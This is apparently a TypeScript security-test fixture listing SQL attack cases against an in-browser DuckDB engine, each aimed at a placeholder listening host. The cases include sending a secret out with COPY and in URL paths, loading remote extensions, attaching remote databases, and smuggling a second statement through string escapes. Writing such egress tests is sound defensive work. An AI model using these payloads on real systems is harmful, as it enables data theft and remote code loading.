import { cell, type Attack, type Ears } from "../attack";

/** A query that reaches out: heard when the engine is open and the page's policy is gone. */
const reads = (name: string, way: string, sql: (ears: Ears) => string, attributes = ""): Attack => ({
  name,
  door: "sql",
  way,
  without: ["page policy", "closed engine"],
  plant: (ears) => ({ cells: cell("sql", name, sql(ears), attributes) }),
});

/** A statement that is no query. */
const states = (name: string, way: string, sql: (ears: Ears) => string): Attack => ({
  ...reads(name, way, sql),
  without: ["page policy", "closed engine", "one query"],
});

/** A function of an extension the engine would fetch by itself. */
const extends_ = (name: string, extension: string, sql: string): Attack => ({
  ...reads(name, "extension", () => sql),
  without: ["page policy", "closed engine", "no extensions"],
  heardAs: `/${extension}.duckdb_extension`,
});

export default [
  reads("sql-read-csv", "fetch", ({ http }) => `FROM read_csv('${http}/x.csv')`),
  reads("sql-read-own-query", "same origin, with a query", ({ own }) => `FROM read_csv('${own}&x=.csv')`),
  reads("sql-bare-file", "fetch", ({ http }) => `SELECT * FROM '${http}/x.csv'`),
  reads("sql-read-text", "fetch", ({ http }) => `SELECT content FROM read_text('${http}/x.txt')`),
  reads("sql-read-blob", "fetch", ({ http }) => `SELECT size FROM read_blob('${http}/x.bin')`),
  reads("sql-sniff", "fetch", ({ http }) => `FROM sniff_csv('${http}/x.csv')`),
  reads("sql-list", "fetch", ({ http }) => `FROM read_csv(['${http}/x.csv', '${http}/y.csv'])`),
  reads("sql-query-text", "fetch", ({ http }) => `FROM query('SELECT * FROM read_csv(''${http}/x.csv'')')`),
  reads("sql-cte", "fetch", ({ http }) => `WITH a AS (FROM '${http}/x.csv') SELECT count(*) AS n FROM a`),
  reads("sql-subquery", "fetch", ({ http }) => `SELECT (SELECT count(*) FROM '${http}/x.csv') AS n`),
  reads("sql-view", "fetch", ({ http }) => `FROM '${http}/x.csv'`, "view"),
  reads("sql-describe", "fetch", ({ http }) => `DESCRIBE FROM '${http}/x.csv'`),
  reads("sql-summarize", "fetch", ({ http }) => `SUMMARIZE FROM '${http}/x.csv'`),
  reads("sql-pivot", "fetch", ({ http }) => `PIVOT (FROM '${http}/x.csv') ON a USING sum(b)`),
  reads(
    "sql-secret-in-path",
    "fetch",
    ({ http, secret }) => `FROM read_csv('${http}/${encodeURIComponent(secret)}.csv')`,
  ),
  states(
    "sql-copy",
    "upload",
    ({ http, secret }) => `COPY (SELECT '${secret}' AS customer) TO '${http}/x.csv'`,
  ),
  states("sql-attach", "fetch", ({ http }) => `ATTACH '${http}/x.db' AS away (READ_ONLY)`),
  states("sql-import", "fetch", ({ http }) => `IMPORT DATABASE '${http}'`),
  states("sql-second", "fetch", ({ http }) => `SELECT 1 AS one; CREATE TABLE t AS FROM '${http}/x.csv'`),
  states(
    "sql-second-in-string",
    "fetch",
    ({ http }) =>
      `PIVOT (SELECT E'a\\'' AS x, 1 AS n) ON x USING sum(n); CREATE OR REPLACE TABLE t AS FROM $$${http}/x.csv$$ --'`,
  ),
  states("sql-insert", "fetch", ({ http }) => `CREATE OR REPLACE TEMP TABLE u AS FROM '${http}/x.csv'`),
  states("sql-load", "extension", ({ http }) => `LOAD '${http}/x.duckdb_extension.wasm'`),
  states(
    "sql-repository",
    "extension",
    ({ http }) => `SET custom_extension_repository = '${http}'; LOAD json`,
  ),
  extends_("sql-parquet", "parquet", "FROM read_parquet('files/x.parquet')"),
  extends_("sql-json", "json", "SELECT to_json(1) AS j"),
  extends_("sql-excel", "excel", "FROM read_xlsx('files/x.xlsx')"),
] satisfies Attack[];
